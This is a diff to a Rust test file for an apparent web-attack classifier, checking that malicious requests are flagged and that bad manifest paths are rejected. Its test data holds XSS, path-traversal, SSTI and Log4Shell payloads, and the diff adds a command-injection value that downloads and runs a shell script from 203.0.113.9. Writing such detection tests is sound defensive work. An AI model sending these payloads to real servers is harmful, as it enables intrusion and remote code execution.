@@ -74,7 +74,7 @@ fn known_attacks_are_found_and_named() -> TestResult {
         ("xss", get("/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E")),
         ("traversal", get("/download?file=../../../../../../etc/passwd")),
         ("traversal", get("/static/..%252f..%252f..%252f..%252fetc%252fpasswd")),
-        ("rce", get("/ping?host=127.0.0.1;cat%20/etc/passwd")),
+        ("rce", get("/ping?host=127.0.0.1;wget%20http://203.0.113.9/x.sh%20-O%20/tmp/x;sh%20/tmp/x")),
         ("rce", post("/api", "application/json", r#"{"name":"${jndi:ldap://203.0.113.9:1389/a}"}"#)),
         ("ssti", get("/hello?name=%7B%7B''.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D")),
         (
@@ -266,7 +266,7 @@ fn broken_manifests_say_what_is_wrong() -> TestResult {
         (&manifest.replace(&schema, "0123456789abcdef"), "train it again"),
         (&manifest.replace("flag_cookie", "flag_biscuit"), "threshold `flag_cookie` is missing"),
         (&manifest.replace("\"xss\"", "\"sorcery\""), "class `sorcery`"),
-        (&manifest.replace("request_gate.onnx", "../../etc/passwd"), "No such file"),
+        (&manifest.replace("request_gate.onnx", "../../etc/passwd"), "must be a plain file name"),
     ];
     for (text, expected) in cases {
         let dir = copy()?;
